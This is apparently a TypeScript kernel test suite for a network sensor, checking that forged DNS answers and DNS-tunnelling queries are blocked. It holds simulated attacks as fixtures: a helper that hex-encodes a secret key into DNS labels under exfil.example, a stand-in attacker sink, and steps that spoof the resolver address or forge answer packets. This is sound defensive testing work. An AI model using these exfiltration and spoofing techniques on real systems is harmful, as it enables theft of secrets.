/**
 * sensor.network against DNS attacks on the real kernel: forged answers
 * (from a namespace of the step's own making, or injected as root) must
 * teach no address, and queries for names outside the allow-list (DNS
 * tunnelling) must not leave.
 *
 * Every packet stays in a network namespace the test creates, which plays
 * the host's: its resolver is the test DNS server at 127.0.0.53:53.
 */
import assert from "node:assert/strict";
import type { NetworkEvent, NetworkSettings } from "../sensors/network.ts";
import { kernelTest } from "./helpers/kernel.ts";
import { digCommand, RESOLVER, withDns } from "./helpers/net_dns.ts";
import { NetHarness, PROBE, type TestNetns } from "./helpers/net_harness.ts";

const EPERM = "errno 1";
/** The attacker's listener, on the test namespace's loopback device. */
const ATTACKER = "10.66.0.1";
const ATTACKER_PORT = "8443";
/** Puts the attacker's address in the test namespace. */
const ATTACKER_SETUP = [["addr", "add", `${ATTACKER}/32`, "dev", "lo"]];

/** Runs `fn` with both sensors attached; always cleans up. */
async function withSensors(
  settings: NetworkSettings,
  fn: (harness: NetHarness) => Promise<void>,
): Promise<void> {
  const harness = await NetHarness.start(settings);
  try {
    await fn(harness);
  } finally {
    await harness.close();
  }
}

/**
 * Block mode with loopback allowed (a step's own server answers over it),
 * `policy` in force, the test DNS server, and the attacker's sink
 * listening in its namespace; `fn` gets the sink's log.
 */
async function withAttackerSink(
  policy: Parameters<NetHarness["network"]["setPolicy"]>[0],
  fn: (h: NetHarness, netns: TestNetns, sinkLog: string) => Promise<void>,
): Promise<void> {
  const sinkLog = await Deno.makeTempFile();
  try {
    await withSensors({ mode: "block", allowLoopback: true }, async (h) => {
      h.network.setPolicy(policy);
      await withDns(h, async (netns) => {
        const sink = h.spawnOutside(
          netns.exec([
            "python3",
            PROBE,
            "sink",
            ATTACKER,
            ATTACKER_PORT,
            sinkLog,
          ]),
        );
        assert.equal(await h.firstLine(sink), "ready");
        await fn(h, netns, sinkLog);
      }, { setup: ATTACKER_SETUP });
    });
  } finally {
    await Deno.remove(sinkLog);
  }
}

/** What the attacker's sink received, one line per connection or read. */
async function received(log: string): Promise<string> {
  return await Deno.readTextFile(log);
}

/** A secret, hex-encoded into labels of at most 63 characters. */
function exfilName(secret: string, suffix: string): string {
  const hex = [...new TextEncoder().encode(secret)]
    .map((byte) => byte.toString(16).padStart(2, "0")).join("");
  const labels = hex.match(/.{1,63}/g)!;
  return [...labels, suffix].join(".");
}

/** A name of exactly 253 characters, the most DNS allows. */
function longestName(suffix: string): string {
  const labels: string[] = [];
  let length = suffix.length;
  while (length < 253) {
    const size = Math.min(63, 253 - length - 1);
    labels.push("f".repeat(size));
    length += size + 1;
  }
  return [...labels, suffix].join(".");
}

const POLICY = {
  resolvers: [RESOLVER],
  domains: [
    { name: "allowed.example", wildcard: false },
    { name: "allowed.test", wildcard: true },
  ],
};

kernelTest(
  "forged DNS: answers from a namespace the step made (unshare -rn, as nobody) teach nothing",
  async () => {
    await withAttackerSink(POLICY, async (h, netns, sinkLog) => {
      // Unprivileged: a user namespace gives the step its own network
      // namespace, whose loopback takes the resolver's address; its own
      // server there answers allowed.example with the attacker's address.
      const script = [
        `unshare -rn sh -c 'ip link set lo up && ` +
        `ip addr add 127.0.0.53/32 dev lo && ` +
        `python3 ${PROBE} selfanswer 127.0.0.53 allowed.example ${ATTACKER}'`,
        `python3 ${PROBE} tcpsend ${ATTACKER} ${ATTACKER_PORT}`,
      ].join("; ");
      const step = await h.run(netns.exec([
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "sh",
        "-c",
        script,
      ]));
      assert.deepEqual(
        step.lines,
        [`answer ${ATTACKER}`, EPERM],
        step.stderr,
      );
      const connect = h.events().find((event) =>
        event.kind === "connect" && event.daddr === ATTACKER
      );
      assert.ok(connect, JSON.stringify(h.events()));
      assert.equal(connect.verdict, "deny");
      assert.equal(connect.reason, "not_in_allow_list");
      assert.equal(connect.uid, 65534);
      assert.ok(
        !h.network.dnsAdmitted().some((a) => a.address === ATTACKER),
      );
      assert.equal(await received(sinkLog), "");
    });
  },
);

kernelTest(
  "forged DNS: an answer injected from resolver:53 that no query asked teaches nothing",
  async () => {
    await withAttackerSink(POLICY, async (h, netns, sinkLog) => {
      // Raw packets from 127.0.0.53:53, sent outside the scope as a
      // root step could inject them, to the port the step waits on.
      h.spawnOutside(netns.exec([
        "python3",
        PROBE,
        "forge",
        "127.0.0.53",
        "127.0.0.1",
        "5300",
        "allowed.example",
        ATTACKER,
        "4",
      ]));
      const step = await h.run(netns.exec([
        "python3",
        PROBE,
        "awaitanswer",
        "127.0.0.1",
        "5300",
        ATTACKER,
        ATTACKER_PORT,
      ]));
      assert.deepEqual(step.lines, ["received", EPERM], step.stderr);
      const connect = h.events(step.pid).find((e) => e.kind === "connect");
      assert.equal(connect?.verdict, "deny");
      assert.equal(connect?.reason, "not_in_allow_list");
      assert.ok(
        !h.network.dnsAdmitted().some((a) => a.address === ATTACKER),
      );
      assert.equal(await received(sinkLog), "");
    });
  },
);

kernelTest(
  "forged DNS: a root step serving a resolver's address in the host's namespace teaches nothing",
  async () => {
    // a second resolver no server holds: the step takes its address
    const second = {
      ...RESOLVER,
      address: new Uint8Array([127, 0, 0, 54]),
    };
    await withAttackerSink(
      { ...POLICY, resolvers: [RESOLVER, second] },
      async (h, netns, sinkLog) => {
        const script = [
          `python3 ${PROBE} selfanswer 127.0.0.54 allowed.example ${ATTACKER}`,
          `python3 ${PROBE} tcpsend ${ATTACKER} ${ATTACKER_PORT}`,
        ].join("; ");
        const step = await h.run(netns.exec(["sh", "-c", script]));
        assert.deepEqual(
          step.lines,
          [`answer ${ATTACKER}`, EPERM],
          step.stderr,
        );
        assert.ok(
          !h.network.dnsAdmitted().some((a) => a.address === ATTACKER),
        );
        assert.equal(await received(sinkLog), "");
      },
    );
  },
);

const QTYPES = [["1", "A"], ["28", "AAAA"], ["16", "TXT"]] as const;

/** The dns events of `pid` asking `name`. */
function asked(h: NetHarness, pid: number, name: string): NetworkEvent[] {
  return h.events(pid).filter((e) => e.kind === "dns" && e.query === name);
}

kernelTest(
  "DNS tunnelling: queries for names outside the allow-list never leave, and are reported whole",
  async () => {
    const queryLog = await Deno.makeTempFile();
    try {
      await withSensors({ mode: "block" }, async (h) => {
        h.network.setPolicy(POLICY);
        await withDns(h, async (netns) => {
          const dig = (
            name: string,
            qtype: string,
            transport: "udp" | "tcp",
          ) => h.run(netns.exec(digCommand(name, qtype, transport)));
          const secret = exfilName(
            "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "a.exfil.example",
          );
          assert.ok(secret.length > 126, secret);
          const names = [secret, longestName("b.exfil.example")];
          assert.equal(names[1].length, 253);
          for (const name of names) {
            for (const [qtype, text] of QTYPES) {
              for (const transport of ["udp", "tcp"] as const) {
                const result = await dig(name, qtype, transport);
                // UDP: the send fails; TCP: the query segment is dropped
                assert.deepEqual(
                  result.lines,
                  [transport === "udp" ? `query ${EPERM}` : "query timeout"],
                  result.stderr,
                );
                const events = asked(h, result.pid, name);
                assert.equal(events.length, 1, JSON.stringify(h.events()));
                assert.equal(events[0].verdict, "deny");
                assert.equal(events[0].reason, "dns_query_not_allowed");
                assert.equal(events[0].qtype, text);
                assert.equal(events[0].protocol, transport);
                assert.equal(events[0].query_truncated, undefined);
              }
            }
          }
          assert.doesNotMatch(await Deno.readTextFile(queryLog), /exfil/);

          // an allowed name still resolves, over UDP and TCP
          for (const transport of ["udp", "tcp"] as const) {
            const ok = await dig("n3.allowed.test", "1", transport);
            assert.deepEqual(ok.lines, ["answer 127.1.0.3"], ok.stderr);
            const [event] = asked(h, ok.pid, "n3.allowed.test");
            assert.equal(event.verdict, "allow");
            assert.equal(event.reason, "resolver");
          }
          assert.match(
            await Deno.readTextFile(queryLog),
            /^n3\.allowed\.test 1 udp\nn3\.allowed\.test 1 tcp\n$/,
          );

          // a message that is no query the sensor can read is refused too
          const garbage = await h.run(
            netns.exec(["python3", PROBE, "udp", "127.0.0.53", "53"]),
          );
          assert.deepEqual(garbage.lines, [EPERM], garbage.stderr);
          const malformed = h.events(garbage.pid).find((e) => e.kind === "dns");
          assert.equal(malformed?.verdict, "deny");
          assert.equal(malformed?.reason, "dns_query_not_allowed");
          assert.equal(malformed?.query_malformed, true);
        }, { queryLog });
      });
    } finally {
      await Deno.remove(queryLog);
    }
  },
);

kernelTest(
  "DNS queries: `any` lets every name through, audit mode reports would-be refusals",
  async () => {
    const queryLog = await Deno.makeTempFile();
    try {
      await withSensors({ mode: "block", dnsQueries: "any" }, async (h) => {
        h.network.setPolicy(POLICY);
        await withDns(h, async (netns) => {
          const name = exfilName("secret", "a.exfil.example");
          const dig = () => h.run(netns.exec(digCommand(name, "16")));
          const any = await dig();
          assert.deepEqual(any.lines, ["answer"], any.stderr);
          const [allowed] = asked(h, any.pid, name);
          assert.equal(allowed.verdict, "allow");
          assert.equal(allowed.reason, "resolver");

          h.network.configure({ mode: "audit", dnsQueries: "allowed-only" });
          const audit = await dig();
          assert.deepEqual(audit.lines, ["answer"], audit.stderr);
          const [reported] = asked(h, audit.pid, name);
          assert.equal(reported.verdict, "audit");
          assert.equal(reported.reason, "dns_query_not_allowed");
          assert.equal(reported.qtype, "TXT");
          assert.equal(
            await Deno.readTextFile(queryLog),
            `${name} 16 udp\n${name} 16 udp\n`,
          );
        }, { queryLog });
      });
    } finally {
      await Deno.remove(queryLog);
    }
  },
);
